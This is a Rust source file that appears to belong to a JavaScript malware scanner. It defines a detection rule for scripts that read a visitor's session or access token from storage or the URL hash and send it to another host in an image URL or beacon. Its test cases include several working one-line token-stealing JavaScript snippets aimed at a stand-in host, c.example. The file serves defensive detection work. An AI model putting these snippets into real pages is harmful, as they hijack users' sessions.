//! `stored-token-in-image`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::taint::{Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "stored-token-in-image",
    description: "The script reads the visitor's session key from storage or from the page's URL, and sends it to another host in an image URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::StorageSentAbroad, Atom::SentAbroad]), one(&[Atom::Image, Atom::Beacon])],
    within: 40,
    only_if: Some(takes_token),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"new Image().src='https://c.example/?t='+localStorage['access_token']"#,
            r#"var o={};location.hash.substring(1).split('&').forEach(function(p){var k=p.split('=');o[k[0]]=k[1]});if(o.access_token){var i=new Image();i.src='https://c.example/t?t='+encodeURIComponent(o.access_token)}"#,
            r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');if(t){const i=new Image();i.src=`https://c.example/g?t=${t}`}"#,
            r#"const t=new URLSearchParams(location.hash.slice(1)).get('id_token');navigator.sendBeacon('https://c.example/t',t)"#,
            r#"var t=localStorage.getItem('jwt');if(t){var i=new Image();i.src='https://c.example/g?j='+t}"#,
            // What else is put into the page does not matter.
            r#"var t=localStorage.getItem('jwt');var i=new Image();i.src='https://c.example/g?j='+t;list.append(row)"#,
            r#"list.append(row);new Image().src='https://c.example/?t='+localStorage.getItem('token');row.append(cell)"#,
        ],
        without: &[
            r#"new Image().src='https://stats.example/?u='+encodeURIComponent(location.href.replace(/access_token=[^&]+/,''))"#,
            r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');sessionStorage.setItem('t',t);new Image().src='https://stats.example/v?p='+encodeURIComponent(location.pathname)"#,
            r#"const t=new URLSearchParams(location.hash.slice(1)).get('access_token');fetch('https://graph.example/me?access_token='+t).then(r=>r.json()).then(show)"#,
            r#"new Image().src='https://stats.example/?v='+localStorage.getItem('visits')"#,
            r#"new Image().src='/avatar?t='+localStorage.getItem('token')"#,
            r#"fetch('https://api.example/me?t='+localStorage.getItem('token'))"#,
            r#"const t=localStorage.getItem('access_token');const i=new Image();i.src='https://api.room.example/photo?access_token='+t;box.appendChild(i)"#,
        ],
    },
};

fn takes_token(evidence: &Evidence<'_>, held: Held) -> bool {
    takes_stored_token(evidence, held) || takes_token_of_address(evidence, held)
}

/// Whether what the sign-in of another site put into the address goes to a stranger: the one who asked for it uses it, and reads answers.
fn takes_token_of_address(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 100);
    let names = |at: usize| matches!(near.word(at), "access_token" | "id_token" | "refresh_token");
    let unseen = |sink| matches!(sink, Sink::Fetched | Sink::Beacon);
    let first = evidence.flows.partition_point(|flow| flow.at < held.first);
    let mut flows = evidence.flows[first..].iter().take_while(|flow| flow.at <= held.last + 12);
    near.has_fact(&[Atom::AddressHash])
        && flows.any(|flow| {
            let mut tokens = (flow.from as usize..flow.at as usize + GIVEN).filter(|at| names(*at));
            unseen(flow.sink)
                && flow.marks.has(Mark::Page)
                && flow.marks.has(Mark::Address)
                && tokens.any(|at| is_given(near, at, flow.at as usize))
        })
}

/// Whether the token at an item is in what goes to a sink, or is kept in a variable that is.
fn is_given(near: Near<'_>, token: usize, sink: usize) -> bool {
    if token > sink {
        return true;
    }
    let name =
        (token.saturating_sub(GIVEN)..token).rev().find(|at| near.is(at + 1, b'=')).map(|at| near.word(at));
    name.is_some_and(|name| {
        !name.is_empty()
            && (sink..sink + GIVEN).any(|at| near.kind(at) == Some(Kind::Name) && near.word(at) == name)
    })
}

/// Items between a name and its value, and of what is sent.
const GIVEN: usize = 16;

fn takes_stored_token(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 40);
    if !near.has_fact(&[Atom::Storage]) {
        return false;
    }
    if is_shown(near, held) {
        return false;
    }
    near.words(&["localStorage", "sessionStorage"]).any(|at| {
        let read = near.is(at + 1, b'[') && near.kind(at + 2) == Some(Kind::Str)
            || near.word(at + 1) == "getItem" && near.is(at + 2, b'(');
        let key = near.word(if near.is(at + 1, b'[') { at + 2 } else { at + 3 }).to_ascii_lowercase();
        let own = near.word(at + 1).to_ascii_lowercase();
        let names = |key: &str| {
            key.len() < 40
                && (matches!(key, "jwt" | "auth" | "token" | "session" | "sessionid")
                    || [
                        "access_token",
                        "accesstoken",
                        "auth_token",
                        "authtoken",
                        "refresh",
                        "id_token",
                        "bearer",
                    ]
                    .iter()
                    .any(|word| key.contains(word)))
        };
        (read && names(&key) || near.kind(at + 1) == Some(Kind::Member) && names(&own))
            && near.runs_unasked(at)
    })
}

/// Whether the picture itself is put into the page: a picture that people see may need the right to see it.
fn is_shown(near: Near<'_>, held: Held) -> bool {
    let around = near.among(held.first as usize..held.last as usize + 40);
    let is_name = |at: usize| near.kind(at) == Some(Kind::Name);
    let mut pictures =
        around.words(&["src"]).filter(|at| near.is(at + 1, b'=') && is_name(at.saturating_sub(1)));
    pictures.any(|src| {
        around.words(SHOWS).any(|puts| {
            let mut given = (puts + 2..puts + 8).take_while(|at| !near.is(*at, b')'));
            near.is(puts + 1, b'(') && given.any(|at| is_name(at) && near.word(at) == near.word(src - 1))
        })
    })
}

/// How a picture gets into the page.
const SHOWS: &[&str] =
    &["append", "appendChild", "prepend", "replaceWith", "insertBefore", "replaceChildren"];
